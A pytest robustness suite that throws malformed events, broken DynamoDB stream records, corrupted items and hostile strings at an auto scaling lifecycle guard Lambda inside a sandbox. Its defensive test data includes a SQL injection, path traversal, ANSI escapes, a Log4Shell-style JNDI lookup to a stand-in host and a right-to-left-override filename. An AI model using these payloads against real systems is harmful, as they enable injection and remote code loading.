"""A corpus of bad input, through the real guard handler on the sandbox.

Four families, each against a real instance waiting in ``Terminating:Wait`` on our hook:

- events the Lambda may be invoked with: not JSON objects, truncated JSON text, unknown shapes and
  detail-types, lifecycle events with wrong types, missing fields, hostile ids, oversized metadata;
- DynamoDB stream batches where one bad record sits next to the valid "last lease ended" record;
- items in the busy table with corrupted lease maps, counters, timestamps and marks;
- lease kinds that are hostile strings, written by the real writer.

For every entry: the handler never raises, exactly one log line names the problem (no line longer
than 2 kB, whatever the input's size), and the decision is the right one: a malformed input
completes nothing, a valid record next to it is never lost, a corrupted item is decided by the
documented rules (an unreadable lease is work that cannot be proven over).
"""

from __future__ import annotations

import copy
import io
import json
import uuid
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import Any

import pytest
from conftest import ENGINES, MOTO

from busy_guard import schema, writer
from busy_guard.guard.observability import logger
from busy_guard.sandbox.clock import ManualClock
from busy_guard.sandbox.world import Sandbox, matches
from busy_guard.settings import MAX_KIND_LENGTH

START = 1_800_000_000.0
GROUP = "graph-db"
MAX_LINE = 2048
MB = "m" * (1 << 20)
TEN_KB = "k" * 10_000
HOSTILE_IDS = {
    "path_traversal": "i-../../x",
    "sql": "i-1' OR '1'='1",
    "ansi_escape": "\x1b[31mi-0123456789abcdef0\x1b[0m",
    "ten_kb": "i-" + "a" * 10_000,
    "fullwidth_digits": "i-" + "".join(chr(0xFF10 + digit) for digit in range(10)),  # fullwidth 0-9
    "trailing_newline": "i-0123456789abcdef0\n",
    "uppercase": "I-0123456789ABCDEF0",
}


# --- the world -----------------------------------------------------------------------------------------
@dataclass
class World:
    sb: Sandbox
    clock: ManualClock
    used: set[str] = field(default_factory=set)

    def fresh_instance(self) -> str:
        asg = self.sb.autoscaling
        group = asg.describe_auto_scaling_groups(AutoScalingGroupNames=[GROUP])["AutoScalingGroups"][0]
        before = {instance["InstanceId"] for instance in group["Instances"]}
        desired = group["DesiredCapacity"] + 1
        asg.update_auto_scaling_group(
            AutoScalingGroupName=GROUP, MaxSize=max(group["MaxSize"], desired), DesiredCapacity=desired
        )
        [instance] = set(self.sb.instances(GROUP)) - before
        self.used.add(instance)
        return instance

    def settle(self) -> None:
        """Nothing pending and an empty table for the next entry."""
        if self.sb.emulator.actions():
            self.clock.advance(1000)
            self.sb.emulator.apply_timeouts()
        for page in self.sb.dynamodb.get_paginator("scan").paginate(TableName=self.sb.table_name):
            for item in page["Items"]:
                key = {schema.INSTANCE_ID: item[schema.INSTANCE_ID]}
                self.sb.dynamodb.delete_item(TableName=self.sb.table_name, Key=key)
        self.sb._new_stream_records()
        self.clock.advance(60)


@pytest.fixture(scope="module", params=ENGINES)
def world(request: pytest.FixtureRequest) -> Iterator[World]:
    """One sandbox per engine: the table and its stream on moto, or on DynamoDB Local."""
    clock = ManualClock(START)
    local = None if request.param == MOTO else request.getfixturevalue("dynamodb_local")
    with Sandbox.start(clock=clock, dynamodb_local=local) as sb:
        yield World(sb, clock)


@pytest.fixture
def w(world: World) -> Iterator[World]:
    try:
        yield world
    finally:
        world.settle()


@dataclass
class Logs:
    raw: list[str] = field(default_factory=list)

    @property
    def lines(self) -> list[dict[str, Any]]:
        return [json.loads(line) for line in self.raw]

    def naming(self, needle: str) -> list[dict[str, Any]]:
        return [line for line in self.lines if needle in line["message"]]

    def problems(self) -> list[dict[str, Any]]:
        return [line for line in self.lines if line["level"] in ("WARNING", "ERROR")]


@contextmanager
def captured() -> Iterator[Logs]:
    """The guard's Powertools log lines written inside the block."""
    handler = logger.registered_handler
    stream = io.StringIO()
    saved = handler.stream  # type: ignore[attr-defined]
    handler.stream = stream  # type: ignore[attr-defined]
    logs = Logs()
    try:
        yield logs
    finally:
        handler.stream = saved  # type: ignore[attr-defined]
        logs.raw.extend(stream.getvalue().splitlines())


def assert_short(logs: Logs) -> None:
    longest = max((len(line) for line in logs.raw), default=0)
    assert longest < MAX_LINE, f"a {longest}-character log line: {logs.raw}"


def completions(sb: Sandbox, instance_id: str) -> list[tuple[str, str]]:
    return [(c.result, c.by) for c in sb.emulator.completions(instance_id)]


def begin(sb: Sandbox, instance_id: str, kind: str = "bulk_table_insert") -> Any:
    lease = writer.begin_destructive_op_sync(
        instance_id,
        kind,
        table=sb.table_name,
        client=sb.dynamodb,
        clock=sb.clock,
        heartbeat_interval=3599,
        lease_ttl=3600,
    )
    assert lease is not None
    return lease


def end(lease: Any) -> None:
    writer.end_destructive_op_sync(lease.instance_id, lease)


# --- 1. events ---------------------------------------------------------------------------------------
Mutate = Callable[[dict[str, Any]], Any]


@dataclass(frozen=True)
class EventCase:
    name: str
    make: Mutate  # the valid event of the waiting instance -> the bad event
    outcome: str  # "malformed", "ignored", or the step of a valid termination ("completed", ...)
    says: str  # in the message of the one log line naming the problem


def _detail(**changes: Any) -> Mutate:
    def make(event: dict[str, Any]) -> Any:
        bad = copy.deepcopy(event)
        for key, value in changes.items():
            if value is _DROP:
                del bad["detail"][key]
            else:
                bad["detail"][key] = value
        return bad

    return make


def _top(**changes: Any) -> Mutate:
    def make(event: dict[str, Any]) -> Any:
        bad = copy.deepcopy(event)
        for name, value in changes.items():
            key = name.replace("_", "-")
            if value is _DROP:
                del bad[key]
            else:
                bad[key] = value
        return bad

    return make


_DROP = object()


def _truncated(at: float) -> Mutate:
    return lambda event: json.dumps(event)[: int(len(json.dumps(event)) * at)]


EVENT_CORPUS = [
    # not a JSON object at all
    EventCase("truncated_json_event_text", _truncated(0.5), "malformed", "event is a str"),
    EventCase("truncated_json_first_byte", _truncated(0.0001), "malformed", "event is a str"),
    EventCase(
        "truncated_json_stream_text", lambda e: '{"Records": [{"eventID": "1", "dyn', "malformed", "a str"
    ),
    EventCase("empty_string", lambda e: "", "malformed", "event is a str"),
    EventCase("null", lambda e: None, "malformed", "event is a NoneType"),
    EventCase("list_of_events", lambda e: [e], "malformed", "event is a list"),
    EventCase("number", lambda e: 42, "malformed", "event is a int"),
    EventCase("nan", lambda e: float("nan"), "malformed", "event is a float"),
    EventCase("boolean", lambda e: True, "malformed", "event is a bool"),
    # objects of unknown shapes
    EventCase("empty_object", lambda e: {}, "malformed", "unrecognised event"),
    EventCase(
        "ec2_state_change",
        lambda e: {**e, "source": "aws.ec2", "detail-type": "EC2 Instance State-change Notification"},
        "malformed",
        "unrecognised event: source='aws.ec2'",
    ),
    EventCase("hostile_source", _top(source="\x1b[2J" + TEN_KB), "malformed", "unrecognised event"),
    EventCase(
        "scheduled_event_without_fields",
        lambda e: {"source": "aws.events", "detail-type": "Scheduled Event"},
        "malformed",
        "scheduled event:",
    ),
    EventCase("records_not_a_list", lambda e: {"Records": {"0": {}}}, "malformed", "Records is not a list"),
    # recognised, not ours to act on
    EventCase(
        "unknown_autoscaling_detail_type",
        _top(detail_type="EC2 Instance Launch Successful"),
        "ignored",
        "ignored: auto scaling event",
    ),
    EventCase(
        "launch_lifecycle_action",
        _top(detail_type="EC2 Instance-launch Lifecycle Action"),
        "ignored",
        "ignored: launching lifecycle action",
    ),
    EventCase(
        "launch_transition_in_a_terminate_event",
        _detail(LifecycleTransition="autoscaling:EC2_INSTANCE_LAUNCHING"),
        "ignored",
        "ignored: transition",
    ),
    EventCase(
        "test_notification",
        lambda e: {"Event": "autoscaling:TEST_NOTIFICATION", "AutoScalingGroupName": GROUP},
        "ignored",
        "TEST_NOTIFICATION",
    ),
    EventCase("other_group", _detail(AutoScalingGroupName="other-asg"), "ignored", "not ours: group"),
    EventCase("other_hook", _detail(LifecycleHookName="someone-elses-hook"), "ignored", "not ours: group"),
    # lifecycle events with wrong types and missing fields
    EventCase("detail_missing", _top(detail=_DROP), "malformed", "lifecycle event: detail"),
    EventCase("detail_a_list", _top(detail=[]), "malformed", "lifecycle event: detail"),
    EventCase("detail_a_string", _top(detail="{}"), "malformed", "lifecycle event: detail"),
    EventCase("instance_id_missing", _detail(EC2InstanceId=_DROP), "malformed", "detail.EC2InstanceId"),
    EventCase("instance_id_a_number", _detail(EC2InstanceId=1234567890), "malformed", "detail.EC2InstanceId"),
    EventCase("instance_id_null", _detail(EC2InstanceId=None), "malformed", "detail.EC2InstanceId"),
    EventCase(
        "token_missing", _detail(LifecycleActionToken=_DROP), "malformed", "detail.LifecycleActionToken"
    ),
    EventCase(
        "token_ten_kb", _detail(LifecycleActionToken=TEN_KB), "malformed", "detail.LifecycleActionToken"
    ),
    EventCase(
        "group_with_a_newline",
        _detail(AutoScalingGroupName="graph-db\n"),
        "malformed",
        "AutoScalingGroupName",
    ),
    EventCase("group_ten_kb", _detail(AutoScalingGroupName=TEN_KB), "malformed", "AutoScalingGroupName"),
    EventCase("group_a_number", _detail(AutoScalingGroupName=7), "malformed", "AutoScalingGroupName"),
    EventCase("hook_empty", _detail(LifecycleHookName=""), "malformed", "detail.LifecycleHookName"),
    EventCase("transition_missing", _detail(LifecycleTransition=_DROP), "malformed", "LifecycleTransition"),
    EventCase("time_missing", _top(time=_DROP), "malformed", "lifecycle event: time"),
    EventCase("time_garbage", _top(time="yesterday"), "malformed", "lifecycle event: time"),
    EventCase("resources_not_a_list", _top(resources="arn"), "malformed", "lifecycle event: resources"),
    *[
        EventCase(f"hostile_instance_id_{name}", _detail(EC2InstanceId=value), "malformed", "EC2InstanceId")
        for name, value in HOSTILE_IDS.items()
    ],
    # valid terminations with oversized or odd optional parts: the right decision is to act
    EventCase("metadata_one_mb", _detail(NotificationMetadata=MB), "completed", ": completed"),
    EventCase("metadata_a_json_bomb", _detail(NotificationMetadata="[" * 50_000), "completed", ": completed"),
    EventCase(
        "unknown_extra_fields", _detail(Surprise={"nested": [MB[:100_000]]}), "completed", ": completed"
    ),
    EventCase(
        "origin_and_destination_garbage", _detail(Origin="\x00", Destination=TEN_KB), "completed", "completed"
    ),
]


@pytest.mark.parametrize("case", EVENT_CORPUS, ids=[c.name for c in EVENT_CORPUS])
def test_bad_event(w: World, case: EventCase) -> None:
    sb = w.sb
    instance = w.fresh_instance()
    [event] = sb.terminate(instance, deliver=False)  # idle and waiting: a valid event completes it
    with captured() as logs:
        result = sb.invoke(case.make(event))
    assert_short(logs)
    naming = logs.naming(case.says)
    assert len(naming) == 1, logs.raw
    if case.outcome in ("malformed", "ignored"):
        assert case.outcome in result, result
        assert len(logs.raw) == 1, logs.raw  # that one line, nothing else
        assert naming[0]["level"] == ("ERROR" if case.outcome == "malformed" else "INFO")
        assert completions(sb, instance) == []
        assert sb.item(instance).exists is False  # not even a look at the table
        # The bad input left nothing behind: the real event still does its job.
        assert sb.invoke(event)["outcomes"][0]["step"] == "completed"
    else:
        assert [o["step"] for o in result["outcomes"]] == [case.outcome]
        assert naming[0]["instance_id"] == instance
    assert completions(sb, instance) == [("CONTINUE", "guard")]


# --- 2. stream batches: one bad record next to the valid one --------------------------------------
@dataclass(frozen=True)
class RecordCase:
    name: str
    make: Mutate  # the valid record -> the bad record
    says: str
    level: str = "ERROR"  # malformed records are errors; records not for us are INFO


def _image(**changes: Any) -> Mutate:
    """The valid record, with its NewImage changed."""

    def make(record: dict[str, Any]) -> Any:
        bad = copy.deepcopy(record)
        image = bad["dynamodb"]["NewImage"]
        for key, value in changes.items():
            if value is _DROP:
                image.pop(key, None)
            else:
                image[key] = value
        return bad

    return make


def _change(**changes: Any) -> Mutate:
    def make(record: dict[str, Any]) -> Any:
        bad = copy.deepcopy(record)
        for key, value in changes.items():
            if value is _DROP:
                bad["dynamodb"].pop(key, None)
            else:
                bad["dynamodb"][key] = value
        return bad

    return make


def _draining(asg: str = GROUP, hook: str = "busy-guard") -> dict[str, Any]:
    return {"M": {"since": {"N": str(int(START))}, "asg": {"S": asg}, "hook": {"S": hook}}}


RECORD_CORPUS = [
    RecordCase("a_number", lambda r: 42, "malformed stream record"),
    RecordCase("a_string", lambda r: json.dumps(r)[:40], "malformed stream record"),
    RecordCase("null", lambda r: None, "malformed stream record"),
    RecordCase("a_list", lambda r: [r], "malformed stream record"),
    RecordCase("dynamodb_a_string", lambda r: {**r, "dynamodb": "garbage"}, "malformed stream record"),
    RecordCase("dynamodb_missing", lambda r: {k: v for k, v in r.items() if k != "dynamodb"}, "malformed"),
    RecordCase("new_image_a_string", _change(NewImage="garbage"), "malformed stream record"),
    RecordCase("new_image_without_key", _image(instance_id=_DROP), "malformed stream record"),
    RecordCase("key_a_number", _image(instance_id={"N": "1"}), "malformed stream record"),
    RecordCase("draining_not_a_map", _image(draining={"S": "yes"}), "not a draining item", "INFO"),
    RecordCase(
        "draining_of_another_group", _image(draining=_draining(asg="other")), "not a draining item", "INFO"
    ),
    RecordCase("draining_of_another_hook", _image(draining=_draining(hook="other-hook")), "hook", "INFO"),
    RecordCase("remove_record", _change(NewImage=_DROP), "not a draining item", "INFO"),
    RecordCase(
        "sequence_number_one_mb", _change(NewImage="garbage", SequenceNumber=MB), "malformed stream record"
    ),
    *[
        RecordCase(
            f"hostile_key_{name}",
            _image(instance_id={"S": value}),
            "not an EC2 instance id",
        )
        for name, value in HOSTILE_IDS.items()
        if name in ("path_traversal", "sql", "ten_kb", "ansi_escape")
    ],
]


def _last_lease_ended(w: World) -> tuple[str, dict[str, Any]]:
    """A busy instance whose last lease just ended, and the stream record that says so."""
    sb = w.sb
    instance = w.fresh_instance()
    lease = begin(sb, instance)
    sb.terminate(instance)
    assert completions(sb, instance) == []
    end(lease)
    records = [
        r
        for r in sb._new_stream_records()
        if matches(schema.stream_filter_pattern(), r)
        and r["dynamodb"]["Keys"]["instance_id"]["S"] == instance
    ]
    assert len(records) == 1
    return instance, records[0]


@pytest.mark.parametrize("case", RECORD_CORPUS, ids=[c.name for c in RECORD_CORPUS])
@pytest.mark.parametrize("valid_first", [False, True], ids=["bad_first", "valid_first"])
def test_bad_stream_record_never_loses_the_valid_one(w: World, case: RecordCase, valid_first: bool) -> None:
    sb = w.sb
    instance, valid = _last_lease_ended(w)
    bad = case.make(valid)
    change = bad.get("dynamodb") if isinstance(bad, dict) else None
    if isinstance(change, dict) and change.get("SequenceNumber") == valid["dynamodb"]["SequenceNumber"]:
        change["SequenceNumber"] = "999" + uuid.uuid4().hex[:12]  # its own id, as in a real batch
    batch = [valid, bad] if valid_first else [bad, valid]
    with captured() as logs:
        result = sb.invoke({"Records": batch}, "stream")
    assert_short(logs)
    assert result["batchItemFailures"] == []  # a retry can't repair a bad record; the valid one is done
    assert completions(sb, instance) == [("CONTINUE", "guard")]  # never lost
    assert [(o["instance_id"], o["step"]) for o in result["outcomes"]] == [(instance, "completed")]
    naming = logs.naming(case.says)
    assert len(naming) == 1, logs.raw
    assert naming[0]["level"] == case.level
    others = [line for line in logs.lines if line != naming[0] and line.get("instance_id") != instance]
    assert others == [], "one line for the bad record, the rest about the valid one"


# --- 3. corrupted items -------------------------------------------------------------------------------
Attributes = Callable[[float], dict[str, Any]]  # the clock's time -> the item's attributes (wire format)


def _n(value: float) -> dict[str, str]:
    return {"N": str(int(value))}


def _lease(now: float, expires_at: dict[str, Any] | None = None, **fields: Any) -> dict[str, Any]:
    """A lease map entry, live for an hour unless ``expires_at`` says otherwise."""
    lease: dict[str, Any] = {
        "kind": {"S": "bulk_table_insert"},
        "holder": {"S": "ip-10-0-0-1:42"},
        "started_at": _n(now - 60),
        "heartbeat_at": _n(now - 10),
        "expires_at": expires_at if expires_at is not None else _n(now + 3600),
    }
    lease.update(fields)
    return {"M": lease}


def _leases(*entries: tuple[str, dict[str, Any]]) -> dict[str, Any]:
    return {"M": dict(entries)}


def _iso(epoch: float) -> dict[str, str]:
    return {"S": schema.iso(epoch)}


@dataclass(frozen=True)
class ItemCase:
    name: str
    attributes: Attributes
    step: str  # the right decision at the termination event: completed, waiting or already_done
    says: str  # in the one warning naming the corrupted part ("" when nothing is unreadable)


STALE = 7 * 3600  # older than the 6 h legacy stale window
ITEM_CORPUS = [
    # An unreadable lease is work that can't be proven over: judged by the legacy rule (busy unless
    # the item's last timestamp is older than the stale window).
    ItemCase("leases_a_string", lambda now: {"leases": {"S": "garbage"}}, "waiting", "leases is not a map"),
    ItemCase(
        "leases_a_string_stale",
        lambda now: {"leases": {"S": "garbage"}, "last_destructive_op_at": _iso(now - STALE)},
        "completed",
        "leases is not a map",
    ),
    ItemCase("leases_a_list", lambda now: {"leases": {"L": [_lease(now)]}}, "waiting", "leases is not a map"),
    ItemCase(
        "lease_entry_not_a_map",
        lambda now: {"leases": _leases(("a", {"S": "x"}))},
        "waiting",
        "has no readable",
    ),
    ItemCase(
        "lease_expiry_a_string",
        lambda now: {"leases": _leases(("a", _lease(now, {"S": "tomorrow"})))},
        "waiting",
        "has no readable",
    ),
    ItemCase(
        "lease_expiry_missing",
        lambda now: {"leases": _leases(("a", {"M": {"kind": {"S": "x"}}}))},
        "waiting",
        "has no readable",
    ),
    ItemCase(
        "lease_expiry_a_list",
        lambda now: {"leases": _leases(("a", _lease(now, {"L": [_n(now + 60)]})))},
        "waiting",
        "has no readable",
    ),
    ItemCase(
        "lease_expiry_a_string_but_stale",
        lambda now: {
            "leases": _leases(("a", _lease(now, {"S": "?"}))),
            "last_destructive_op_at": _iso(now - STALE),
        },
        "completed",
        "has no readable",
    ),
    ItemCase(
        "lease_id_ten_kb_unreadable",
        lambda now: {"leases": _leases(("x" * 10_000, _lease(now, {"S": "?"})))},
        "waiting",
        "has no readable",
    ),
    ItemCase(
        "lease_kind_ten_kb_unreadable",
        lambda now: {"leases": _leases(("a", _lease(now, {"S": "?"}, kind={"S": TEN_KB})))},
        "waiting",
        "has no readable",
    ),
    # readable but absurd values: decided by what they say
    ItemCase(
        "lease_expiry_negative",
        lambda now: {"leases": _leases(("a", _lease(now, {"N": "-5"})))},
        "completed",
        "",
    ),
    ItemCase(
        "lease_expiry_largest_number",
        lambda now: {
            "leases": _leases(("a", _lease(now, {"N": "9.9999999999999999999999999999999999999E+125"})))
        },
        "waiting",
        "",
    ),
    ItemCase(
        "lease_expiry_in_milliseconds",
        lambda now: {"leases": _leases(("a", _lease(now, _n(now * 1000))))},
        "waiting",
        "",
    ),
    ItemCase(
        "lease_kind_and_holder_wrong_types",
        lambda now: {"leases": _leases(("a", _lease(now, kind={"N": "1"}, holder={"L": []})))},
        "waiting",
        "",
    ),
    ItemCase(
        "lease_live_with_a_ten_kb_kind",
        lambda now: {"leases": _leases(("a", _lease(now, kind={"S": TEN_KB})))},
        "waiting",
        "",
    ),
    ItemCase(
        "hundred_live_leases_of_long_kinds",
        lambda now: {
            "leases": _leases(
                *((f"l{i}", _lease(now, kind={"S": f"{i:03d}" + "k" * 500})) for i in range(100))
            )
        },
        "waiting",
        "",
    ),
    ItemCase(
        "counter_negative", lambda now: {"active_destructive_ops": {"N": "-3"}}, "completed", "is negative"
    ),
    ItemCase(
        "counter_huge",
        lambda now: {
            "active_destructive_ops": {"N": "1" + "0" * 37},
            "last_destructive_op_at": _iso(now - 60),
        },
        "waiting",
        "",
    ),
    ItemCase(
        "counter_below_leases",
        lambda now: {"active_destructive_ops": {"N": "0"}, "leases": _leases(("a", _lease(now)))},
        "waiting",
        "is below the number of leases",
    ),
    ItemCase(
        "last_op_at_unparseable",
        lambda now: {"active_destructive_ops": {"N": "2"}, "last_destructive_op_at": {"S": "last tuesday"}},
        "waiting",
        "is not an ISO-8601 time",
    ),
    ItemCase(
        "last_op_at_ten_kb",
        lambda now: {"active_destructive_ops": {"N": "1"}, "last_destructive_op_at": {"S": TEN_KB}},
        "waiting",
        "is not an ISO-8601 time",
    ),
    ItemCase(
        "last_op_at_a_number",
        lambda now: {"active_destructive_ops": {"N": "1"}, "last_destructive_op_at": _n(now)},
        "waiting",
        "",
    ),
    ItemCase(
        "draining_not_a_map_idle",
        lambda now: {"draining": {"S": "yes"}},
        "completed",
        "draining is unreadable",
    ),
    ItemCase(
        "draining_not_a_map_busy",
        lambda now: {"draining": {"S": "yes"}, "leases": _leases(("a", _lease(now)))},
        "waiting",
        "draining is unreadable",
    ),
    ItemCase(
        "draining_since_a_string",
        lambda now: {"draining": {"M": {"since": {"S": "now"}}}, "leases": _leases(("a", _lease(now)))},
        "waiting",
        "draining is unreadable",
    ),
    ItemCase(
        "released_garbage_idle", lambda now: {"released": {"S": "x"}}, "completed", "released is unreadable"
    ),
    ItemCase(
        "released_garbage_busy",
        lambda now: {"released": {"N": "1"}, "leases": _leases(("a", _lease(now)))},
        "waiting",
        "released is unreadable",
    ),
    ItemCase(
        "released_reason_ten_kb",  # released for this very termination already: nothing to do
        lambda now: {"released": {"M": {"at": _n(now), "reason": {"S": TEN_KB}, "by": {"S": TEN_KB}}}},
        "already_done",
        "",
    ),
    ItemCase(  # work of unknown age is not "no work": held, like a legacy marker without a time
        "legacy_leases_not_a_set", lambda now: {"active_leases": {"S": "x"}}, "waiting", "not a string set"
    ),
    ItemCase(
        "legacy_lease_without_time",
        lambda now: {"active_leases": {"SS": ["no-pipes-here"]}},
        "waiting",
        "has no readable start time",
    ),
    ItemCase(
        "legacy_lease_ten_kb",
        lambda now: {"active_leases": {"SS": [TEN_KB]}},
        "waiting",
        "has no readable start",
    ),
    ItemCase("ttl_garbage", lambda now: {"expires_at": {"S": "never"}}, "completed", ""),
]


@pytest.mark.parametrize("case", ITEM_CORPUS, ids=[c.name for c in ITEM_CORPUS])
def test_corrupted_item(w: World, case: ItemCase) -> None:
    sb = w.sb
    instance = w.fresh_instance()
    item = {schema.INSTANCE_ID: {"S": instance}, **case.attributes(w.clock())}
    sb.dynamodb.put_item(TableName=sb.table_name, Item=item)
    [event] = sb.terminate(instance, deliver=False)
    with captured() as logs:
        result = sb.invoke(event)
    assert_short(logs)
    assert [o["step"] for o in result["outcomes"]] == [case.step], logs.raw
    expected = [("CONTINUE", "guard")] if case.step == "completed" else []
    assert completions(sb, instance) == expected
    problems = logs.problems()
    if case.says:
        assert len(problems) == 1 and case.says in problems[0]["message"], logs.raw
        assert problems[0]["instance_id"] == instance
    else:
        assert problems == [], logs.raw
    if case.step == "waiting":  # the schedule keeps holding it, and names the problem once per look
        w.clock.advance(60)
        with captured() as later:
            tick = sb.tick()
        assert_short(later)
        assert [o["step"] for o in tick["outcomes"]] == ["heartbeat"]
        assert completions(sb, instance) == []
        assert len(later.problems()) == (1 if case.says else 0), later.raw


# --- 4. hostile lease kinds through the real writer -------------------------------------------------------
HOSTILE_KINDS = {
    "sql": "'; DROP TABLE busy_guard; --",
    "ansi_escape": "\x1b[2J\x1b[31mred\x1b[0m",
    "ten_kb": TEN_KB,
    "hundred_kb": "h" * 100_000,
    "unicode": "材料化🙂\u202etxt.exe",
    "empty": "",
    "pipes_and_newlines": "kind|with|pipes\nand lines\r\n",
    "jndi": "${jndi:ldap://example.invalid/a}",
    "nul": "\x00",
    "json": '{"__type": "ThrottlingException"}',
}


@pytest.mark.parametrize("kind", list(HOSTILE_KINDS.values()), ids=list(HOSTILE_KINDS))
def test_hostile_kind_is_stored_as_is_and_decided_correctly(w: World, kind: str) -> None:
    sb = w.sb
    instance = w.fresh_instance()
    lease = begin(sb, instance, kind)
    [stored] = sb.item(instance).leases
    # stored verbatim up to the bound (an empty kind reads back as unknown)
    assert stored.kind == (kind[:MAX_KIND_LENGTH] or "unknown")
    with captured() as logs:
        sb.terminate(instance)
        w.clock.advance(60)
        sb.tick()
    assert_short(logs)
    assert completions(sb, instance) == []  # its work is live, whatever it is called
    assert logs.problems() == [], logs.raw
    end(lease)
    with captured() as logs:
        sb.pump_stream()
    assert_short(logs)
    assert completions(sb, instance) == [("CONTINUE", "guard")]


# --- the size of the corpus -------------------------------------------------------------------------------
def test_the_corpus_has_at_least_forty_entries() -> None:
    sizes = {
        "events": len(EVENT_CORPUS),
        "stream records": len(RECORD_CORPUS),
        "items": len(ITEM_CORPUS),
        "kinds": len(HOSTILE_KINDS),
    }
    assert sum(sizes.values()) >= 40, sizes
    for corpus in (EVENT_CORPUS, RECORD_CORPUS, ITEM_CORPUS):
        names = [case.name for case in corpus]
        assert len(names) == len(set(names))
